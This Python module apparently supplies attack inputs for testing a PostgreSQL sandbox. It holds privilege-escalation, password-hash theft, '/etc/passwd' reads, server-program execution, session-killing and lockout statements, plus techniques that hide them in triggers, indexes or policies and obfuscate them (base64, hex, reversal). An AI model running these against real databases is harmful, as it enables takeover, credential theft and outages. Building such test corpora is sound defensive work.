"""Histories that would do harm, one row each, and ways to hide one statement in another."""

from __future__ import annotations

import random
import re
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass

from outside import BOB, CANARY, HARM


def block(*statements: str) -> str:
    """A DO block that runs statements, each in hiding, and goes on where one fails."""
    runs = "".join(f"begin execute {literal(s)}; exception when others then null; end; " for s in statements)
    return f"do $block$ begin {runs}end $block$"


def literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# What nobody may do, as statements.
FORBIDDEN = {
    "a password": "alter role current_user password 'mine'",
    "a password of another": f"alter role {BOB} password 'mine'",
    "a setting of its role": "alter role current_user set search_path = 'evil'",
    "a setting in another database": f"alter role current_user in database {CANARY} set search_path = 'evil'",
    "settings in every database": "do $all$ declare other name; begin for other in select datname from pg_database loop"
    " execute format('alter role current_user in database %I set work_mem = ''1MB''', other); end loop; end $all$",
    "a setting of all roles": "alter role all set search_path = 'evil'",
    "a setting of another database": f"alter database {CANARY} set search_path = 'evil'",
    "a setting of its database": "alter database {shadow} set search_path = 'evil'",
    "a name for its database": "alter database {shadow} rename to innocent",
    "a connection limit": "alter role current_user connection limit 0",
    "a superuser": "alter role current_user superuser",
    "a new role": "create role pggit_intruder superuser login",
    "membership": f"grant {BOB} to current_user",
    "membership in itself": f"grant current_user to {BOB}",
    "membership in a role of the server": "grant pg_execute_server_program to current_user",
    "what bob has": f"drop owned by {BOB}",
    "what bob owns": f"reassign owned by {BOB} to current_user",
    "another role": f"set role {BOB}",
    "another session": f"set session authorization {BOB}",
    "rights on a database": f"grant all on database {CANARY} to public",
    "rights taken away": f"revoke all on database {CANARY} from {BOB}",
    "a database": "create database pggit_intruder",
    "no database": f"drop database {CANARY}",
    "a comment on a role": f"comment on role {BOB} is 'was here'",
    "a comment on a database": f"comment on database {CANARY} is 'was here'",
    "a label": f"security label on role {BOB} is 'was here'",
    "a tablespace": "create tablespace pggit_intruder location '/tmp'",
    "the server's settings": "alter system set work_mem = '1GB'",
    "a reload": "select pg_reload_conf()",
    "a program": f"copy (select 1) to program 'touch {HARM}'",
    "a file": f"copy (select 1) to '{HARM}'",
    "a file that is read": "select pg_read_file('/etc/passwd')",
    "a folder": "select pg_ls_dir('.')",
    # In one query the object is not there yet for the export.
    "a large object as a file": "do $lo$ declare made oid := lo_from_bytea(0, 'x'); begin"
    f" perform lo_export(made, '{HARM}'); end $lo$",
    "a library": "load '/tmp/evil.so'",
    "a function in C": "create function evil() returns int language c as '/tmp/evil.so', 'evil'",
    "a function of the server's": "create function evil(text) returns text language internal as 'pg_read_file_v2'",
    "a language": "create language plpython3u",
    "a slot": "select pg_create_physical_replication_slot('pggit_intruder')",
    "an origin": "select pg_replication_origin_create('pggit_intruder')",
    "a subscription": "create subscription pggit_intruder connection 'host=192.0.2.1' publication p",
    "an event trigger": "create event trigger evil on ddl_command_end execute function evil()",
    "passwords": "create table stolen as select rolpassword from pg_authid",
    "the catalog": "update pg_catalog.pg_authid set rolsuper = true",
    "a function of PostgreSQL's": "create function pg_catalog.lower(integer) returns text language sql as 'select 1'",
    "statistics of all": "select pg_stat_reset_shared('bgwriter')",
}

# In hiding: a walk gives code that names the session's process or role in plain sight another one.
END_ITSELF = "execute 'select pg_terminate_backend(pg_backend_pid())';"
END_OTHERS = (
    "execute 'select pg_terminate_backend(pid) from pg_stat_activity"
    " where usename = current_user and pid <> pg_backend_pid()';"
)
# What a role may do to itself, and nobody else can undo: a server then lets only the history in.
LOCKS_OUT = (
    "do $$ begin execute 'alter role current_user password ''mine'''; commit;"
    f" {END_OTHERS} {END_ITSELF} end $$"
)

HARMLESS = "create table {name} (id integer)"


@dataclass(frozen=True)
class Attack:
    """A row's text, and what it would do."""

    name: str
    text: str


def attacks(shadow: str) -> list[Attack]:
    """Each forbidden statement as it is and in hiding, and what attacks the engine itself."""
    found = []
    for name, statement in FORBIDDEN.items():
        statement = statement.replace("{shadow}", shadow)
        found += [Attack(name, statement), Attack(f"{name}, in a block", block(statement))]
    return found + [Attack(name, text.replace("{shadow}", shadow)) for name, text in ENGINE.items()]


def _function(run: str, how: str = "") -> str:
    """A function `carrier()`; one that is immutable may change nothing itself, and calls another that does."""
    own = f"language plpgsql as $c$ begin {run} return 1; end $c$"
    if how != "immutable":
        return f"create function carrier() returns integer {how} {own}"
    return (
        f"create function carried_out() returns integer {own}; create function carrier() returns integer immutable"
        " language plpgsql as $c$ begin return carried_out(); end $c$"
    )


def in_an_index(run: str) -> str:
    """DDL alone, none of it code to look at, by which PostgreSQL runs statements."""
    return (
        _function(run, "immutable")
        + "; create table carried (id integer); create index on carried (id) where carrier() = 1"
    )


def named_apart(text: str, place: int) -> str:
    """What carries an attack under names of its own: in one shadow there is room for one of each name."""
    return re.sub(r"\bcarri(?=er|ed)", f"n{place}_carri", text)


TAKES_ITS_PASSWORD = "execute 'alter role current_user password ''mine''';"

# What is aimed at the engine: its sessions, what it keeps in them, what it asks them.
ENGINE = {
    "ends its session": f"do $$ begin {END_ITSELF} end $$",
    "ends every session": f"do $$ begin {END_OTHERS} {END_ITSELF} end $$",
    "catches its cancellation": "do $$ begin loop begin perform pg_sleep(3600);"
    " exception when query_canceled then null; end; end loop; end $$",
    "locks itself out": "do $$ begin execute 'alter role current_user password ''lost'''; execute"
    f" 'alter role current_user set role = ''nobody'''; {END_ITSELF} end $$",
    "gives its rights away": "do $$ begin execute 'drop owned by current_user'; end $$",
    "forgets what was prepared": block("deallocate all", "prepare pggit_1 as select 1", "discard all"),
    "sets everything": block(
        "set standard_conforming_strings = off",
        "set client_encoding = 'LATIN1'",
        "set DateStyle = 'German'",
        "set search_path = 'pg_temp', 'public'",
        "set statement_timeout = 0",
        "set default_transaction_read_only = on",
        "set check_function_bodies = on",
        "set quote_all_identifiers = on",
        "set TimeZone = 'Asia/Tokyo'",
        "set transform_null_equals = on",
        "set default_tablespace = 'nowhere'",
        "set bytea_output = 'escape'",
    ),
    "stops in no time": "do $$ begin perform set_config('statement_timeout', '1', false); end $$",
    "hides the catalog": "do $$ begin create temp table pg_class (oid oid, relname text);"
    " create temp table pg_locks (pid int, relation oid, mode text);"
    " perform set_config('search_path', 'pg_temp, public, pg_catalog', false); end $$",
    "takes the place of operators": "do $$ begin"
    " create function public.eq(oid, oid) returns boolean language sql as 'select false';"
    " create operator public.= (leftarg = oid, rightarg = oid, function = public.eq);"
    " create function public.ne(text, text) returns boolean language sql as 'select false';"
    " create operator public.<> (leftarg = text, rightarg = text, function = public.ne);"
    " create function public.pg_stat_get_xact_tuples_inserted(oid) returns bigint language sql as 'select 0::bigint';"
    " create function public.set_config(text, text, boolean) returns text language sql as 'select ''''';"
    " perform set_config('search_path', 'public, pg_catalog', false); end $$",
    "leaves a cursor and a listener": block(
        "declare c cursor with hold for select 1", "listen pggit", "notify pggit"
    ),
    "leaves a lock": "do $$ begin perform pg_advisory_lock(1); perform pg_advisory_lock(0); end $$",
    "returns a lot": "select repeat('x', 1000000) from generate_series(1, 300)",
    "says a lot": "do $$ begin raise exception '%', repeat('x', 10000000); end $$",
    "says it often": "do $$ begin for i in 1..20000 loop raise notice '%', repeat('x', 1000); end loop; end $$",
    "is two statements": "create table two_a (id integer); drop database canary",
    "is two statements to some": r"select 'a\'; drop database canary; --'",
    "ends its transaction": "commit",
    "begins one": "begin; create table begun (id integer)",
    "is a copy": "copy (select 1) to stdout",
    "is cut off": "create table cut (t text default 'it was",
    **{
        f"{what}, where an index is built": named_apart(in_an_index(run), place)
        for place, (what, run) in enumerate(
            (
                ("takes its password", TAKES_ITS_PASSWORD),
                # With it the password comes back, before what follows would lock the role out.
                ("takes a setting", "execute 'alter role current_user set search_path = evil';"),
                ("ends others", END_OTHERS),
                ("ends itself", END_ITSELF),
            )
        )
    },
    "ends others, and takes a setting": block(
        "select pg_terminate_backend(pid) from pg_stat_activity"
        " where usename = current_user and pid <> pg_backend_pid()"
    )
    + "; "
    + block("alter role current_user set search_path = 'evil'"),
    "fills a table with its role": "do $$ begin create table mine as select current_user as me; end $$",
}

# Where a statement can hide: something that runs it when it is made, used or looked at.
# Blocks declare something: one that only runs statements is replayed as these, and fills no table.
CARRIERS: dict[str, Callable[[str], str]] = {
    "a block": lambda run: f"do $c$ declare n int; begin {run} end $c$",
    "a function that is called": lambda run: _function(run) + "; select carrier()",
    "a default": lambda run: (
        _function(run) + "; create table carried (id integer default carrier());"
        " do $x$ declare n int; begin insert into carried default values; end $x$;"
        " alter table carried add column more integer default carrier()"
    ),
    "an index": lambda run: (
        _function(run, "immutable") + "; do $x$ declare n int; begin create table carried as select 1 as id;"
        " create index on carried ((carrier() + id)); end $x$"
    ),
    "a generated column": lambda run: (
        _function(run, "immutable") + "; do $x$ declare n int; begin create table carried as select 1 as id;"
        " alter table carried add column g integer generated always as (carrier()) stored; end $x$"
    ),
    "a check": lambda run: (
        _function(run) + "; do $x$ declare n int; begin create table carried as select 1 as id;"
        " alter table carried add check (carrier() is not null); end $x$"
    ),
    "a domain": lambda run: (
        _function(run) + "; create domain carried_d as integer check (carrier() is not null);"
        " create table carried (id carried_d default 1); do $x$ declare n int; begin perform 1::carried_d; end $x$"
    ),
    "a rule": lambda run: (
        _function(run) + "; do $x$ declare n int; begin create table carried (id integer);"
        " create rule r as on insert to carried do also select carrier(); insert into carried values (1); end $x$"
    ),
    "a policy": lambda run: (
        _function(run) + "; do $x$ declare n int; begin create table carried as select 1 as id;"
        " alter table carried enable row level security;"
        " alter table carried force row level security; create policy p on carried using (carrier() = 1);"
        " perform * from carried; end $x$"
    ),
    "a trigger": lambda run: (
        f"create function carrier_t() returns trigger language plpgsql as $c$ begin {run}"
        " return new; end $c$; do $x$ declare n int; begin create table carried (id integer);"
        " create trigger t before insert on carried for each row execute function carrier_t();"
        " insert into carried values (1); end $x$"
    ),
    "a cast": lambda run: (
        f"create type carried_t as (id integer); create function carrier_c(carried_t) returns integer"
        f" language plpgsql as $c$ begin {run} return 1; end $c$;"
        " create cast (carried_t as integer) with function carrier_c(carried_t);"
        " do $x$ declare n int; begin perform row(1)::carried_t::integer; end $x$"
    ),
    "an operator": lambda run: (
        f"create function carrier_o(integer, integer) returns boolean language plpgsql as"
        f" $c$ begin {run} return true; end $c$;"
        " create schema carried_s;"
        " create operator carried_s.=== (leftarg = integer, rightarg = integer, function = carrier_o);"
        " do $x$ declare n int; begin perform 1 operator(carried_s.===) 2; end $x$"
    ),
    "a view": lambda run: (
        _function(run)
        + "; create view carried as select carrier() as c; create materialized view carried_m as select * from carried"
    ),
    "an event trigger": lambda run: (
        f"create function carrier_e() returns event_trigger language plpgsql as"
        f" $c$ begin {run} end $c$; create event trigger carried on ddl_command_end execute function carrier_e();"
        " create table carried (id integer)"
    ),
    "a definer": lambda run: _function(run, "security definer") + "; select carrier()",
}


# How a statement is spelt, so that no reader of the text finds it.
SPELLINGS: dict[str, Callable[[str, random.Random], str]] = {
    "as it is": lambda s, _: f"{s};",
    "a string": lambda s, _: f"execute {literal(s)};",
    "pieces": lambda s, r: "execute " + " || ".join(literal(p) for p in _pieces(s, r)) + ";",
    "base64": lambda s, _: (
        "execute convert_from(decode('" + b64encode(s.encode()).decode() + "', 'base64'), 'UTF8');"
    ),
    "hex": lambda s, _: f"execute convert_from('\\x{s.encode().hex()}'::bytea, 'UTF8');",
    "escapes": lambda s, _: "execute E'" + "".join(f"\\x{ord(c):02x}" for c in s) + "';",
    "code points": lambda s, _: "execute U&'" + "".join(f"\\{ord(c):04x}" for c in s) + "';",
    "dollar quotes": lambda s, _: f"execute $d${s}$d$;",
    "backwards": lambda s, _: f"execute reverse({literal(s[::-1])});",
    "comments": lambda s, _: f"execute {literal(s.replace(' ', '/* x */ '))};",
    "format": lambda s, r: f"execute format('%s%s', {literal(s[:4])}, {literal(s[4:])});",
    "capitals": lambda s, r: (
        "execute " + literal("".join(c.upper() if r.random() < 0.5 else c for c in s)) + ";"
    ),
    "a temporary function": lambda s, _: (
        "execute "
        + literal(
            f"create or replace function pg_temp.f() returns void language plpgsql as $t$ begin {s}; end $t$"
        )
        + "; perform pg_temp.f();"
    ),
}


def _pieces(text: str, r: random.Random) -> list[str]:
    found, here = [], 0
    while here < len(text):
        step = r.randint(1, 6)
        found.append(text[here : here + step])
        here += step
    return found


def generated(r: random.Random, shadow: str, place: int = 0) -> Attack:
    """One forbidden statement, spelt and carried in ways that chance chooses; `place` tells it from others there."""
    name, statement = r.choice(sorted(FORBIDDEN.items()))
    spelling, spell = r.choice(sorted(SPELLINGS.items()))
    carrier, carry = r.choice(sorted(CARRIERS.items()))
    run = spell(statement.replace("{shadow}", shadow), r)
    guarded = f"begin {run} exception when others then null; end;" if r.random() < 0.8 else run
    return Attack(f"{name}, spelt as {spelling}, in {carrier}", named_apart(carry(guarded), place))
